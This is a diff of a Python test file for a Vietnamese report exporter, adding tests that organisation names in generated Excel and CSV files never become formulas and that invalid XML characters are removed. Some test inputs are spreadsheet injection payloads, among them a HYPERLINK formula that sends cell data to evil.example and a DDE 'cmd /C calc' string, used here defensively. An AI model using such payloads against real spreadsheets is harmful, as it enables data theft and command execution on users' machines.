@@ -9,9 +9,11 @@ import csv
 import datetime as dt
 import io
 import os
+import re
 import subprocess
 import sys
 import warnings
+import zipfile
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
@@ -131,6 +133,12 @@ def open_book(data: bytes) -> openpyxl.Workbook:
 
 def rows_of(ws) -> list[tuple]:
     return list(ws.iter_rows(values_only=True))
+
+
+def facts_of(ws) -> dict[str, object]:
+    """A summary sheet's label: value pairs (rows of two cells or more; read-only mode gives
+    a row only the cells it has)."""
+    return {r[0]: r[1] for r in ws.iter_rows(values_only=True) if len(r) > 1}
 
 
 def by_code(ws) -> dict[str, tuple]:
@@ -343,18 +351,20 @@ def test_same_report_same_bytes(vi: Translator) -> None:
 def test_awkward_names_survive(vi: Translator) -> None:
     """Names with XML's special characters or a stray control character (a pasted name)."""
     tree = [(1, "R&D", "Ban <Quản lý> & \"Dự án\" \x07số 1", None, 5, Figures(1, 1), None),
-            (2, "R&D.1", "  Tổ 1 & 2  ", 1, 5, Figures(2, 1), None)]
+            (2, "R&D.1", "  Tổ 1 & 2 'A'  ", 1, 5, Figures(2, 1), None)]
     lines = _lines(tree)
-    report = Report("agency", "2026-W48", MOMENT, None, lines[0], lines, lines[0].total)
+    report = Report("agency", "2026-W48", MOMENT, root=lines[0], lines=lines, total=lines[0].total)
     for read_only in (False, True):  # as the tests of /report read it, too
         book = openpyxl.load_workbook(io.BytesIO(workbook(report, vi)), read_only=read_only)
         rows = [tuple(r) for r in book["Cấp 1"].iter_rows(values_only=True)]
-        assert rows[1][:4] == ("R&D.1", "  Tổ 1 & 2  ", "R&D", 5)
+        assert rows[1][:4] == ("R&D.1", "  Tổ 1 & 2 'A'  ", "R&D", 5)
+        facts = facts_of(book["Tổng hợp"])
+        assert facts["Đơn vị"] == 'Ban <Quản lý> & "Dự án" số 1 (R&D)'
     rows = parse_csv(csv_bytes(report, vi))
-    assert rows[0]["Tên đơn vị"] == "Ban <Quản lý> & \"Dự án\" \x07số 1"
+    assert rows[0]["Tên đơn vị"] == "Ban <Quản lý> & \"Dự án\" số 1"  # no control character
     assert chart(report, vi).startswith(PNG)  # no glyph missing for the control character
     assert [b.label for b in report_files._chosen(report, vi)[0]] == [
-        'Ban <Quản lý> & "Dự án" số 1 (trực tiếp)', "Tổ 1 & 2"]
+        'Ban <Quản lý> & "Dự án" số 1 (trực tiếp)', "Tổ 1 & 2 'A'"]
 
 
 def two_agencies(name: str, child: str, code: str = "X1", child_code: str = "X2") -> Report:
@@ -363,6 +373,73 @@ def two_agencies(name: str, child: str, code: str = "X1", child_code: str = "X2"
                     (2, child_code, child, 1, 5, Figures(1), Figures(4))])
     return Report("agency", "2026-W48", MOMENT, "2026-W47", root=lines[0], lines=lines,
                   total=lines[0].total, previous_total=lines[0].previous)
+
+
+def sheets_xml(data: bytes) -> list[str]:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return [archive.read(n).decode() for n in archive.namelist()
+                if n.startswith("xl/worksheets/sheet")]
+
+
+@pytest.mark.parametrize("name", [
+    '=HYPERLINK("http://evil.example/?"&A1,"Sở Y tế")', "=1+2", "+1", "-A1", "@SUM(1+1)", "#N/A",
+])
+def test_names_are_never_formulas_in_the_workbook(vi: Translator, name: str) -> None:
+    """openpyxl makes any text beginning with "=" a formula (and "#N/A" an error): every text
+    cell is written as text, the summary sheet's too."""
+    data = workbook(two_agencies(name, name, child_code="-X2"), vi)
+    sheets = sheets_xml(data)
+    assert len(sheets) == 2  # the summary, level 1
+    for sheet in sheets:
+        assert "<f>" not in sheet and "<f " not in sheet
+        # text inline everywhere (openpyxl's cells and the rows written here alike), no
+        # formula's cached text ("str"), no error ("e"), no shared string ("s")
+        types = set(re.findall(r'<c [^>]*\bt="(\w+)"', sheet))
+        assert "inlineStr" in types and types <= {"inlineStr", "n"}
+    for read_only in (False, True):
+        book = openpyxl.load_workbook(io.BytesIO(data), read_only=read_only)
+        facts = facts_of(book["Tổng hợp"])
+        assert facts["Đơn vị"] == f"{name} (X1)"
+        assert list(book["Cấp 1"].iter_rows(values_only=True))[1][:3] == ("-X2", name, "X1")
+
+
+def test_names_are_never_formulas_in_the_csv(vi: Translator) -> None:
+    """A text field beginning with = + - @ tab or CR gets a quote before it (OWASP's advice:
+    Excel and LibreOffice would run it); numbers, a change of -3 too, stay numbers."""
+    report = two_agencies("=1+2", "@SUM(1+1)*cmd|' /C calc'!A0", code="-X1", child_code="-X2")
+    rows = parse_csv(csv_bytes(report, vi))
+    assert [r["Tên đơn vị"] for r in rows] == ["'=1+2", "'@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert [(r["Mã đơn vị"], r["Đơn vị cấp trên"]) for r in rows] == [("'-X1", ""),
+                                                                       ("'-X2", "'-X1")]
+    assert rows[1]["Tham gia: thay đổi so với tuần trước"] == "-3"
+    for name in ("+1", "\t=1", "\r=1", "-1"):
+        rows = parse_csv(csv_bytes(two_agencies("Sở Y tế", name), vi))
+        assert rows[1]["Tên đơn vị"] == "'" + name
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r"))
+            assert not value.startswith("-") or value[1:].isdigit()
+
+
+@pytest.mark.parametrize("bad", ["\uffff", "\ufffe", "\ud800", "\x00", "\x1b", "\x0b"])
+def test_characters_xml_cannot_hold_are_left_out(vi: Translator, bad: str) -> None:
+    """Not an XML 1.0 character (U+FFFE, U+FFFF, a lone surrogate, a control character): one
+    in a name would make the whole workbook unreadable; it is left out, of the chart too."""
+    report = two_agencies(f"Sở{bad} Y tế", f"Tổ{bad}[31m 1{bad}")
+    data = workbook(report, vi)
+    for read_only in (False, True):
+        book = openpyxl.load_workbook(io.BytesIO(data), read_only=read_only)
+        rows = {ws.title: list(ws.iter_rows(values_only=True)) for ws in book.worksheets}
+        assert facts_of(book["Tổng hợp"])["Đơn vị"] == "Sở Y tế (X1)"
+        assert rows["Cấp 1"][1][1] == "Tổ[31m 1"
+    assert parse_csv(csv_bytes(report, vi))[1]["Tên đơn vị"] == "Tổ[31m 1"
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        assert chart(report, vi).startswith(PNG)
+    assert [str(w.message) for w in caught] == []
+    label = "Tổ [31m 1" if bad.isspace() else "Tổ[31m 1"  # a vertical tab: a space
+    assert [b.label for b in report_files._chosen(report, vi)[0]] == [
+        label, "Sở Y tế (trực tiếp)"]
 
 
 def test_counts_show_thousands_and_changes_their_sign(vi: Translator) -> None:
